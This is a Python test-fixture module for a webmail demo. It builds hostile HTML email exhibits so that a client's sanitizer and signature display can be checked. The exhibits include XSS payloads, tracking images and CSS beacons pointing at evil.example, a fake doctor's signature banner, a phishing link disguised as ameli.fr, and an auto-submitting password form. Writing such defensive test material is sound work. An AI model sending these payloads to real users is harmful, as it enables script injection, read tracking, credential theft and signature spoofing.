"""HTML that wants out of its frame: scripts, pictures that tell, pages that imitate the program. Nothing of it leaves."""

from functools import partial

from webmail.management.demo.museum import shapes
from webmail.management.demo.museum.exhibit import Exhibit, Expected, Maker, Room
from webmail.management.demo.museum.materials import Materials
from webmail.management.demo.museum.signatures import sealed
from webmail.management.demo.museum.signing import sign_entity
from webmail.management.demo.pictures import draw_png


def page(materials: Materials, subject: str, *, body: str, head: str = "") -> bytes:
    """An unsigned HTML message."""
    whole = f"<html><head>{head}</head><body>{body}<p>Fin.</p></body></html>\r\n"
    return shapes.outer(materials, subject) + shapes.entity(whole, "text/html; charset=utf-8")


def picture_inside(materials: Materials, subject: str) -> bytes:
    """Signed by card, with a picture that the message brings along."""
    picture = b"Content-Type: image/png; name=cliche.png\r\nContent-ID: <cliche@musee.invalid>\r\n"
    picture += b"Content-Disposition: inline; filename=cliche.png\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    html = shapes.entity(
        '<p>Le cliché :</p><img src="cid:cliche@musee.invalid" alt="cliché">', "text/html; charset=utf-8"
    )
    sender = materials.exposition.sender
    related = shapes.multipart('multipart/related; hp="cipher"', html, picture + shapes.lines(draw_png()), edge="=_lie")
    entity = shapes.fields(materials, subject, sender) + related
    signature = sign_entity(materials, entity, materials.exposition, materials.card("bob"))
    return sealed(materials, subject, shapes.clear_signed(entity, signature), sender)


_SCRIPTS = (
    "<script>document.title='volé'</script><img src=x onerror=\"fetch('http://evil.example/x')\">"
    "<svg onload=\"fetch('http://evil.example/s')\"></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    '</style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=http://evil.example/o></object>'
    "<form id=attributes><input name=attributes></form><template><script>alert(1)</script></template>"
)
_PICTURES = (
    "<img src=http://evil.example/1.gif><img srcset='http://evil.example/2.gif 2x'><picture><source srcset=//evil.example/3.gif>"
    "</picture><video poster=http://evil.example/4.gif src=http://evil.example/5.mp4></video><audio src=http://evil.example/6></audio>"
    "<table background=http://evil.example/7.gif><tr><td>.</td></tr></table><input type=image src=http://evil.example/8.gif>"
    "<svg><image href=http://evil.example/9.gif></image></svg>"
)
_STYLES = (
    '<div style="background:url(http://evil.example/10.gif)">a</div><div style="list-style-image:url(\'http://evil.example/11\')">b</div>'
    "<div style=\"content:image-set('http://evil.example/12' 1x);background:\\75rl(http://evil.example/13)\">c</div>"
)
_SHEETS = (
    "<style>@import 'http://evil.example/14.css'; @font-face{font-family:x;src:url(http://evil.example/15)} "
    "body{background:url(http://evil.example/16);font-family:x}</style><link rel=stylesheet href=http://evil.example/17.css>"
    "<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=http://evil.example/18.gif>"
)
_OVERLAY = (
    "<div style='position:fixed;top:-200px;left:0;width:200vw;height:400px;z-index:2147483647;background:#dff5e6;font-size:2em'>"
    "Signé par Dr Bob LEFÈVRE, RPPS 99900002023. Prouvé par carte de santé.</div>"
)
_LINKS = (
    "<a href='javascript:alert(1)'>un</a> <a href='data:text/html,<script>alert(1)</script>'>deux</a> "
    "<a href='http://evil.example/connexion'>https://www.ameli.fr/</a> <a href='mailto:x@evil.example?attach=/etc/passwd'>trois</a>"
    "<map name=m><area shape=default href=http://evil.example/carte></map><img usemap=#m alt=''>"
)
_ACTIONS = (
    "<form action=http://evil.example/f method=post><input name=mdp type=password autofocus><button>Valider</button></form>"
    "<meta http-equiv=refresh content='0;url=http://evil.example/r'><base href=http://evil.example/>"
    '<body onload="document.forms[0].submit()" background=relatif.gif>'
)


def _row(key: str, title: str, body: str, head: str = "") -> Exhibit:
    maker: Maker = partial(page, body=body, head=head)
    return Exhibit(key, Room.HTML, title, maker, Expected("S5", html=True, reason="unsigned"))


ROOM = (
    _row("scripts", "Scripts sous toutes leurs formes", _SCRIPTS),
    _row("tracking", "Images qui disent qu’on a lu", _PICTURES),
    _row("tracking-styles", "Styles qui disent qu’on a lu", _STYLES, _SHEETS),
    _row("overlay", "Faux bandeau de signature", _OVERLAY),
    _row("links", "Liens qui mentent", _LINKS),
    _row("actions", "Formulaire, renvoi et base", _ACTIONS, "<base href=http://evil.example/>"),
    Exhibit(
        "picture",
        Room.HTML,
        "Image apportée par le message",
        picture_inside,
        Expected("S1", encrypted=True, html=True, reason="signed-by-card", files=("cliche.png",)),
    ),
)
